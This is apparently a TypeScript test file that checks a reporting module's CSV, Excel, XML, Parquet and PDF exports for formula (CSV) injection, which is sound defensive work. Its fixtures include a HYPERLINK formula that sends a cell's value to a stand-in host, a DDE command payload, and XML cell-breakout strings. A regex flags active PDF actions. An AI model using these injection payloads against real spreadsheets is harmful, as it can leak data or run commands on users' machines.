import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from '@zip.js/zip.js';
import { parse } from 'csv-parse/sync';
import { XMLParser } from 'fast-xml-parser';
import { readXlsx } from 'hucre/xlsx';
import { parquetReadObjects } from 'hyparquet';
import type { Principal } from '@/lib/access/policy/principal';
import { LISTS } from '@/lib/composition/process/lists';
import { STANDARD_REPORTS } from '@/lib/composition/process/standard-reports';
import { definitionSchema } from '@/lib/kit/reports/definition';
import { downloadRun, seenRun } from '@/lib/kit/reports/runs';
import { createReport } from '@/lib/kit/reports/save-report';
import { type RunCriteria, startRun } from '@/lib/kit/reports/start-run';
import { bytesOf } from '../support/bytes';
import { untilEnded } from '../support/jobs';
import { ORIGIN, useDatabase } from '../support/module-world';
import { readPdf } from '../support/pdf';
import { aPrincipalAt } from '../support/principal';
import { granted } from '../support/results';
import { aCompany, anAccount, anIssuer } from '../support/structure';
import { aTransaction } from '../support/transactions';

const world = useDatabase();
const PASSWORD = 'Höst2026rapport';

/** Texts that spreadsheets take for a formula (OWASP, CSV injection), and texts that try to leave their cell. */
const FORMULAS = [
  ...['=HYPERLINK("http://x.example/?"&A1,"y")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)'],
  ...['＝1+1', '＋1', '－1', '＠SUM(A1)', '","=1+1', '</t></is></c><c><f>1+1</f></c>', '<a>=1+1</a>']
];
const HEADING = '=1+1 heading';
let C: Principal;

beforeAll(async () => {
  const company = await aCompany(world.current, await anIssuer(world.current));
  const account = await anAccount(world.current, company, { name: '=1+1 account' });
  C = await aPrincipalAt(world.current, 'C', company);
  for (const merchant of FORMULAS)
    await aTransaction(world.current, account, { merchant, amount: '-5.00', type: 'credit' });
});

/** The file of the same report in a format: rows, or groups of them. */
async function fileIn(criteria: RunCriteria, groups: string[] = []): Promise<Buffer> {
  const definition = definitionSchema.parse({
    dataSet: 'transactions',
    columns: ['merchantName', 'account', 'billedAmount'],
    groups,
    headings: { merchantName: HEADING },
    calculated: [{ heading: '+2 half', expression: '[billedAmount] / 2' }]
  });
  const name = `=1+1 ${JSON.stringify(criteria)} ${groups.join()}`.slice(0, 60);
  const report = granted(await createReport(LISTS, C, { name, definition }, ORIGIN));
  const id = granted(await startRun(LISTS, STANDARD_REPORTS, C, { report, criteria, locale: 'en_US' }, ORIGIN));
  await untilEnded(C, (await seenRun(C, id))?.jobId as string);
  const file = await downloadRun(C, id, ORIGIN);
  if (!file) throw new Error('no file');
  return bytesOf(file.bytes);
}

/** What a spreadsheet would compute when it opens a cell of a CSV file. */
const isFormula = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

test.each([[[]], [['merchantName', 'account']]])(
  'issue 18 C2.082 a formula is a text in CSV, and so is one in a heading, grouped by %j',
  async (groups) => {
    const cells = parse((await fileIn({ format: 'csv' }, groups)).toString(), { bom: true }) as string[][];
    expect(cells[0]).toEqual(expect.arrayContaining([`'${HEADING}`, "'+2 half"]));
    expect(cells.flat().filter(isFormula)).toEqual([]);
    expect(new Set(cells.map(({ length }) => length)).size).toBe(1);
    expect(cells.flat()).toEqual(expect.arrayContaining(FORMULAS.map((text) => (isFormula(text) ? `'${text}` : text))));
  }
);

test('issue 18 C2.082 a formula is a text in an Excel file, on its second sheet too, with and without a password', async () => {
  const plain = await fileIn({ format: 'xlsx' });
  for (const entry of await new ZipReader(new Uint8ArrayReader(plain)).getEntries()) {
    if (entry.directory || !entry.filename.endsWith('.xml')) continue;
    const xml = Buffer.from(await entry.getData(new Uint8ArrayWriter(), { useWebWorkers: false })).toString();
    expect({ part: entry.filename, formulas: /<(\w+:)?f[\s>/]/.test(xml) }).toEqual({
      part: entry.filename,
      formulas: false
    });
  }
  const sealed = await fileIn({ format: 'xlsx', isProtected: true, password: PASSWORD, confirmation: PASSWORD });
  for (const [bytes, options] of [[plain, {}] as const, [sealed, { password: PASSWORD }] as const]) {
    const { sheets } = await readXlsx(bytes, options);
    const [rows] = sheets;
    expect(rows?.rows[0]?.slice(0, 2)).toEqual([HEADING, 'Account']);
    const found = rows?.rows.slice(1).map(([merchant]) => merchant);
    expect(found?.sort()).toEqual([...FORMULAS].sort());
    for (const sheet of sheets) for (const cell of sheet.cells?.values() ?? []) expect(cell.formula ?? null).toBeNull();
  }
}, 240_000);

test('issue 18 C2.082 a formula is a text in XML and Parquet, which programs read', async () => {
  const parser = new XMLParser({ ignoreAttributes: false, parseTagValue: false, trimValues: false });
  const { report } = parser.parse(await fileIn({ format: 'xml' }));
  const inXml = report.rows.row.map(({ merchantName }: { merchantName: string }) => merchantName);
  expect(inXml.sort()).toEqual([...FORMULAS].sort());
  const parquet = await fileIn({ format: 'parquet' });
  const rows = await parquetReadObjects({ file: new Uint8Array(parquet).buffer });
  expect(rows.map(({ merchantName }) => merchantName).sort()).toEqual([...FORMULAS].sort());
});

test('issue 18 C2.082 a formula is a text in a PDF, which runs nothing', async () => {
  const bytes = await fileIn({ format: 'pdf' });
  expect(bytes.toString('latin1')).not.toMatch(/\/(JavaScript|JS|Launch|OpenAction|AA|SubmitForm|URI)\b/);
  const text = (await readPdf(bytes)).pages
    .map((page) => page.text)
    .join('')
    .replaceAll(/\s/g, '');
  for (const formula of FORMULAS) expect(text).toContain(formula.replaceAll(/\s/g, ''));
});
